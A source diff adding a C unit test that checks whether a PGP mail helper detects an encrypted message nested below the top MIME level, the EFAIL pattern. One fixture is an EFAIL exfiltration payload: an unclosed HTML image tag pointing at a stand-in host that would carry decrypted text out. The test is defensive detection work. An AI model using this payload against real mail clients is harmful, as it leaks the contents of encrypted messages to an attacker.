@@ -617,6 +617,34 @@ test_import_for(void)
 }
 
 static void
+test_nested(void)
+{
+	static const char root[] = "Content-Type: multipart/encrypted; "
+	    "protocol=\"application/pgp-encrypted\"; boundary=\"e\"\r\n\r\n"
+	    "--e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1"
+	    "\r\n--e\r\nContent-Type: application/octet-stream\r\n\r\nx\r\n"
+	    "--e--\r\n";
+	static const char efail[] = "Content-Type: multipart/mixed; boundary="
+	    "\"m\"\r\n\r\n--m\r\nContent-Type: text/html\r\n\r\n<img src=\""
+	    "http://evil.test/\r\n--m\r\nContent-Type: multipart/encrypted; "
+	    "protocol=\"application/pgp-encrypted\"; boundary=\"e\"\r\n\r\n"
+	    "--e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1"
+	    "\r\n--e\r\nContent-Type: application/octet-stream\r\n\r\nx\r\n"
+	    "--e--\r\n--m\r\nContent-Type: text/html\r\n\r\n\">\r\n--m--\r\n";
+	static const char quoted[] = "Content-Type: multipart/mixed; boundary="
+	    "\"m\"\r\n\r\n--m\r\nContent-Type: text/plain\r\n\r\nhi\r\n"
+	    "-----BEGIN PGP MESSAGE-----\r\nx\r\n-----END PGP MESSAGE-----\r\n"
+	    "--m--\r\n";
+
+	test_begin("pgp: an OpenPGP message below the top is found (EFAIL)");
+	test_assert(pgp_has_nested(root, sizeof(root) - 1) == 0);
+	test_assert(pgp_has_nested(efail, sizeof(efail) - 1) == 1);
+	test_assert(pgp_has_nested(quoted, sizeof(quoted) - 1) == 1);
+	test_assert(pgp_has_nested(msg, sizeof(msg) - 1) == 0);
+	test_end();
+}
+
+static void
 test_domain_key(void)
 {
 	char		 fpr[PGP_MAX_FPR + 1], fpr2[PGP_MAX_FPR + 1];
@@ -653,6 +681,7 @@ main(void)
 	test_attached_inside();
 	test_cache();
 	test_import_for();
+	test_nested();
 	test_domain_key();
 	pgp_done();
 	(void)sh("GNUPGHOME=%s gpgconf --kill all; GNUPGHOME=%s gpgconf "
